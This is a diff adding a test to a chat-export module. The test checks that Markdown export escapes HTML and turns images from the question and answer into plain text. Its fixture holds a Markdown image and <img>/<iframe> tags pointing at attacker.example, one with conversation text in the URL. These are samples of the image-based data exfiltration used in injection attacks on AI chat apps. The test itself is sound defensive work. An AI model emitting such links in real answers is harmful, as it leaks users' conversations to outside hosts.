@@ -26,6 +26,16 @@ describe('export', () => {
     expect(md).toContain('### Compared: Single model');
   });
 
+  it('Markdown opened in another viewer loads no image and runs no HTML from the answer or the question', () => {
+    const injected = withTurn(newConversation(0), turn('Show <img src="https://attacker.example/q.png"> me', 'Sure: ![chart](https://attacker.example/p.png?d=the%20conversation)\n\n<iframe src="https://attacker.example/"></iframe>\n\n```html\n<b>code stays code</b>\n```', 10));
+    const md = toMarkdown(injected);
+    expect(md).toContain('image: chart (`https://attacker.example/p.png?d=the%20conversation`)');
+    expect(md).toContain('&lt;iframe src="https://attacker.example/">&lt;/iframe>');
+    expect(md).toContain('> Show &lt;img src="https://attacker.example/q.png"> me');
+    expect(md).toContain('```html\n<b>code stays code</b>\n```');
+    expect(md).not.toMatch(/!\[|<img|<iframe/);
+  });
+
   it('names files from the title', () => {
     expect(exportFileName(c, 'json', new Date('2026-02-01T10:00:00Z'))).toBe('why-is-the-sky-blue-2026-02-01.json');
   });
